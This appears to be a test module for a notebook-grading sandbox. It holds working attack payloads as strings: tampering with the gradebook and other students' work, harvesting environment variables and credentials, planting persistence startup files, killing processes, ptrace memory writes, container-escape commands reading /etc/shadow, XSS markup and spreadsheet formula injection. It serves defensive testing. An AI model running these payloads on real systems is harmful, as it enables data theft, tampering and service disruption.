"""Harm to others: nothing is read, written or left running beyond the notebook's own sandbox."""
# ruff: noqa: E501 - an attack reads best as one line

from tests.attacks.attack import Attack

WRITE = """
import glob, os
for path in ['HOST_COURSE/gradebook.db', 'HOST_COURSE/.kit/key', *glob.glob('HOST_COURSE/submitted/*/*/*'),
             *glob.glob('HOST_COURSE/source/*/*'), *glob.glob('/kit/autoencoders/*.py'), *glob.glob('/job/*'),
             '/etc/passwd', os.__file__]:
    try:
        open(path, 'ab').write(b'attacked')
    except OSError as error:
        print(path, error)
"""

READ = """
import os, glob, subprocess
print(dict(os.environ))
for path in ['HOST_COURSE', '/root', '/home', '/tmp', 'HOST_KIT', '/proc/1/environ', '/proc/self/environ']:
    for p in [path, *glob.glob(path + '/**', recursive=True), *glob.glob(path + '/.*')][:2000]:
        try:
            print(open(p, errors='replace').read()[:2000])
        except OSError:
            pass
print(subprocess.run('cat /proc/*/environ /proc/*/cmdline', shell=True, capture_output=True).stdout)
"""

OUTLIVE = """
import os, time
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 200)
            time.sleep(600)
        os._exit(0)
"""

DISK = """
import os, pathlib
for home in {pathlib.Path.home(), pathlib.Path('/tmp'), pathlib.Path('/dev/shm'), pathlib.Path('.')}:
    for name in ['.ipython/profile_default/startup/00-attack.py', 'sitecustomize.py', 'usercustomize.py',
                 '.local/lib/python3.11/site-packages/attack.pth', '.jupyter/jupyter_config.py', '.bashrc',
                 '.local/lib/python3.11/site-packages/usercustomize.py', '.keras/keras.json', 'left-behind.py']:
        try:
            path = home / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("import builtins; builtins.LEFT_BEHIND = True")
        except OSError:
            pass
"""

IS_LEFT = """
def double(x):
    import builtins, glob, os
    if not (hasattr(builtins, 'LEFT_BEHIND') or glob.glob('/tmp/*left-behind*') or glob.glob('/dev/shm/*')
            or glob.glob(os.path.expanduser('~/.local/lib/*/site-packages/*'))):
        raise ValueError('nothing was left')
    return 2 * x
"""

NETWORK = """
import socket, urllib.request
for family, address in [(socket.AF_INET, ('127.0.0.1', HOST_PORT)), (socket.AF_INET, ('1.1.1.1', 53)),
                        (socket.AF_INET6, ('::1', HOST_PORT)), (socket.AF_INET, ('10.0.0.1', 80))]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            s = socket.socket(family, kind); s.settimeout(1); s.connect(address); s.send(b'attacked'); print('sent')
        except OSError as error:
            print(error)
try:
    urllib.request.urlopen('http://127.0.0.1:HOST_PORT/', timeout=1)
except OSError as error:
    print(error)
"""

SIGNALS = """
import os, signal
for pid in [os.getppid(), 1, *range(2, 400)]:
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if pid not in (os.getpid(), 0): os.kill(pid, number)
        except OSError:
            pass
"""

PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for pid in [os.getppid(), 1, *range(2, 200)]:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0:
        print('attached to', pid)
    try:
        open(f'/proc/{pid}/mem', 'r+b', buffering=0).write(b'attacked')
    except OSError:
        pass
"""

ESCAPE = """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
print(libc.unshare(0x10000000), libc.unshare(0x00020000), libc.setns(0, 0))
print(libc.mount(b'none', b'/mnt', b'tmpfs', 0, None), libc.chroot(b'/proc/1/root'))
for command in ['sudo -n id', 'su -c id', 'mount -o remount,rw /usr', 'mknod /tmp/sda b 8 0', 'nsenter -t 1 -a id',
                'bwrap --bind / / cat /etc/shadow', 'cat /proc/1/root/etc/shadow', 'dmesg', 'id',
                'echo 1 > /proc/sys/kernel/sysrq', 'echo x > /proc/sys/kernel/core_pattern']:
    done = subprocess.run(command, shell=True, capture_output=True, text=True, timeout=5)
    print(command, done.returncode, done.stdout[:200], done.stderr[:200])
"""

SOCKETS = """
import array, glob, os, socket
for path in [*glob.glob('/job/*'), *glob.glob('/run/**', recursive=True), *glob.glob('/tmp/**', recursive=True)]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET):
        try:
            s = socket.socket(socket.AF_UNIX, kind); s.settimeout(0.2); s.connect(path)
            s.sendmsg([b'attacked'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [0]))])
        except OSError:
            pass
for fd in range(3, 100):
    try:
        print(fd, os.readlink(f'/proc/self/fd/{fd}'))
    except OSError:
        pass
"""

MARKUP = (
    "<script>attacked()</script><img src=x onerror='attacked()'><svg onload='attacked()'>"
    "<a href='javascript:attacked()'>x</a><iframe src='http://127.0.0.1:HOST_PORT/'></iframe>"
    "<form action='http://127.0.0.1:HOST_PORT/'><input></form><style>@import 'http://127.0.0.1:HOST_PORT/';</style>"
    "<meta http-equiv='refresh' content='0;url=http://127.0.0.1:HOST_PORT/'>"
)

SCRIPTS = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
markup = \"\"\"{MARKUP}\"\"\"
for shown in (HTML(markup), Markdown(markup), Javascript('attacked()'), SVG('<svg onload="attacked()"/>')):
    display(shown)
display({{'text/html': markup, 'application/javascript': 'attacked()', 'text/latex': markup,
         'image/svg+xml': '<svg onload="attacked()"/>', 'image/png': '"><script>attacked()</script>',
         'application/vnd.jupyter.widget-view+json': {{'model_id': markup}}, 'text/markdown': markup}}, raw=True)
print(markup, '\\x1b]8;;javascript:attacked()\\x07link\\x1b]8;;\\x07')
raise ValueError(markup)
"""


def markdown(notebook):
    """A cell of Markdown with all ways to run a script."""
    from nbformat.v4 import new_markdown_cell

    text = (
        MARKUP.replace("HOST_PORT", "9") + '\n\n[x](javascript:attacked()) ![x](x" onerror="attacked())\n\n'
    )
    notebook.cells.append(
        new_markdown_cell(text + "$<script>attacked()</script>$\n\n```\n</code><script>attacked()</script>")
    )


ATTACKS = [
    Attack("write-everywhere", "Writes the gradebook, the others' work, the solutions and the library.", WRITE,
           honest=True, scores=5),
    Attack("read-everywhere", "Reads the environment, keys, other users' files.", READ, honest=True, scores=5),
    Attack("outlive", "Leaves processes behind that outlive the notebook.", OUTLIVE, honest=True, scores=5),
    Attack("start-up-files", "Leaves start-up files for the next kernel.", DISK, honest=True, scores=5),
    *(Attack(f"z-finds-left-{n}", "Uses what an earlier notebook left.", cells={"double": IS_LEFT}) for n in range(3)),
    Attack("network", "Calls a listener on the host and addresses elsewhere.", NETWORK, honest=True, scores=5),
    Attack("signals", "Kills every process that it can name, its parent first.",
           then=SIGNALS, honest=True, scores=5),
    Attack("signals-first", "Kills every process that it can name before anything is asked.", SIGNALS, honest=True,
           scores=5),
    Attack("ptrace", "Attaches to every process, and writes their memory.", PTRACE, honest=True, scores=5),
    Attack("escape", "Leaves its namespaces, mounts, calls set-uid programs.", ESCAPE, honest=True, scores=5),
    Attack("sockets", "Calls every socket that it sees and passes descriptors on.", SOCKETS, honest=True, scores=5),
    Attack("scripts-in-outputs", "Shows scripts, forms and frames in every kind of output.", SCRIPTS, honest=True,
           scores=5),
    Attack("scripts-in-markdown", "Writes scripts in Markdown.", change=markdown, honest=True, scores=5),
    Attack("markup-in-messages", "Raises errors whose type and message are markup and control characters.",
           cells={"double": "def double(x):\n    raise type('<script>attacked()</script>', (Exception,), {})("
                            "'<script>attacked()</script>\\x1b[2J\\x00\\u202e' * 50)"}),
    Attack("formula-in-message", "Raises an error that a spreadsheet would run.",
           cells={"double": "def double(x):\n    raise ValueError('=HYPERLINK(\"http://127.0.0.1\")')"}),
    Attack("=cmd'!A0", "Is called like a formula.", honest=True, scores=5),
    Attack("<b onclick=attacked()>", "Is called like markup.", honest=True, scores=5),
]  # fmt: skip
